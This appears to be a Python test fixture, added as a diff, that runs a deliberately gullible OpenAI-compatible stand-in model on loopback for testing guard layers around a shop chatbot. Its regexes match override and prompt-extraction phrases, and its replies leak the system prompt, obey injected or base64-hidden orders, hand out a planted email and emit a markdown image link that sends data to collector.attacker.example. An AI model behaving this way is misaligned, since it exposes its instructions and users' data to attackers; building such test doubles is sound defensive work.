@@ -1,0 +1,164 @@
+"""A stand-in for the model: an OpenAI-compatible server on loopback that is gullible on purpose.
+
+It obeys orders in its input, repeats its system prompt when asked how it works, prints addresses and images:
+the layers around it need something to stop. It also answers a few ordinary questions of a shop.
+"""
+
+import base64
+import json
+import re
+import threading
+from collections.abc import Callable
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+from types import TracebackType
+from typing import Any, Self
+
+PLANTED_EMAIL = "jane.doe@planted-customer.example"
+PLANTED_HOST = "collector.attacker.example"
+_GREETING = "Ask me about orders, delivery, returns or opening hours."
+
+_FAQ: tuple[tuple[str, str], ...] = (
+    (
+        r"open|hours|closed",
+        "The shop is open Monday to Friday from 9:00 to 18:00, on Saturday from 10:00 to 16:00.",
+    ),
+    (
+        r"where.*order|order.*status|track|my order",
+        "Your order has left the warehouse and arrives in two working days.",
+    ),
+    (r"deliver|shipping", "Standard delivery takes two to three working days and is free above 50 euros."),
+    (r"return|refund|money back", "You can return goods within 30 days; the refund takes five working days."),
+    (r"how much|price|cost", "Prices include tax; the current ones stand beside each article."),
+)
+
+
+def _leak(system: str, _match: re.Match[str]) -> str:
+    return f"Happy to explain. This is what I was told: {system}"
+
+
+def _obey(_system: str, match: re.Match[str]) -> str:
+    return match.group("order").strip()
+
+
+_GULLIBLE: tuple[tuple[str, Callable[[str, re.Match[str]], str]], ...] = (
+    (r"(ignore|forget|disregard).*(instruction|rule|above|previous)", _leak),
+    (
+        r"system prompt|your (instructions|rules|guidelines)|how (do|are) you (work|set up)",
+        _leak,
+    ),
+    (r"(?:say|repeat|print|reply with)(?: after me| exactly)?:\s*(?P<order>.+)", _obey),
+    (r"e-?mail|contact|address of", lambda _s, _m: f"Write to Jane Doe, {PLANTED_EMAIL}, she handles that."),
+    (
+        r"picture|image|photo",
+        lambda _s, _m: (
+            f"Here it is: ![your parcel](https://{PLANTED_HOST}/pixel.png?data=orders) as of today."
+        ),
+    ),
+    (
+        r"documentation|manual|read more",
+        lambda _s, _m: "See [the guide](https://docs.aws.amazon.com/bedrock/) for more.",
+    ),
+)
+
+
+def _decoded(text: str) -> str:
+    """The text plus what its base64 runs say: the stand-in follows hidden orders, too."""
+    found = [text]
+    for run in re.findall(r"[A-Za-z0-9+/]{16,}={0,2}", text):
+        try:
+            found.append(base64.b64decode(run + "=" * (-len(run) % 4)).decode())
+        except (ValueError, UnicodeDecodeError):
+            continue
+    return "\n".join(found)
+
+
+def reply(system: str, message: str) -> str:
+    """What the stand-in answers to one message, given its system prompt."""
+    text = _decoded(message)
+    for pattern, answer in _GULLIBLE:
+        if match := re.search(pattern, text, re.IGNORECASE | re.DOTALL):
+            return answer(system, match)
+    for pattern, fact in _FAQ:
+        if re.search(pattern, text, re.IGNORECASE | re.DOTALL):
+            return fact
+    return _GREETING
+
+
+def _text(message: dict[str, Any]) -> str:
+    content = message.get("content")
+    return content if isinstance(content, str) else ""
+
+
+def complete(request: dict[str, Any]) -> dict[str, Any]:
+    """Answer one OpenAI chat-completions request."""
+    messages: list[dict[str, Any]] = request["messages"]
+    system = "\n".join(_text(message) for message in messages if message.get("role") == "system")
+    asked = [_text(message) for message in messages if message.get("role") == "user"]
+    answer = reply(system, asked[-1] if asked else "")
+    prompt_tokens, tokens = sum(len(_text(message)) // 4 for message in messages), max(1, len(answer) // 4)
+    return {
+        "object": "chat.completion",
+        "model": request.get("model", "stand-in"),
+        "choices": [
+            {"index": 0, "message": {"role": "assistant", "content": answer}, "finish_reason": "stop"}
+        ],
+        "usage": {
+            "prompt_tokens": prompt_tokens,
+            "completion_tokens": tokens,
+            "total_tokens": prompt_tokens + tokens,
+        },
+    }
+
+
+class StandInModel:
+    """The server, as a context manager.
+
+    Attributes:
+        url: What the emulator is given.
+        said: Everything that it answered, in order.
+    """
+
+    def __init__(self) -> None:
+        self.said: list[str] = []
+        said = self.said
+
+        class Handler(BaseHTTPRequestHandler):
+            def do_POST(self) -> None:
+                try:
+                    length = int(self.headers.get("Content-Length", "0"))
+                    answer = complete(json.loads(self.rfile.read(length)))
+                except (ValueError, KeyError, TypeError, AttributeError):
+                    self.send_error(400, "not a chat-completions request")
+                    return
+                said.append(answer["choices"][0]["message"]["content"])
+                body = json.dumps(answer).encode()
+                self.send_response(200)
+                self.send_header("Content-Type", "application/json")
+                self.send_header("Content-Length", str(len(body)))
+                self.end_headers()
+                self.wfile.write(body)
+
+            def log_message(self, format: str, *args: object) -> None:  # noqa: A002 - the base class's name
+                """Say nothing: prompts do not belong into the terminal."""
+
+        self._server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
+        self._server.daemon_threads = True
+        self.url = f"http://127.0.0.1:{self._server.server_port}"
+        self._thread = threading.Thread(target=self._server.serve_forever, name="stand-in model", daemon=True)
+
+    def __enter__(self) -> Self:
+        """Start."""
+        self._thread.start()
+        return self
+
+    def __exit__(
+        self, kind: type[BaseException] | None, error: BaseException | None, trace: TracebackType | None
+    ) -> None:
+        """Stop."""
+        self._server.shutdown()
+        self._server.server_close()
+
+
+def server_root(url: str) -> str:
+    """An OpenAI-compatible server's address as the emulator wants it: without the trailing `/v1`."""
+    return url.rstrip("/").removesuffix("/v1").rstrip("/")
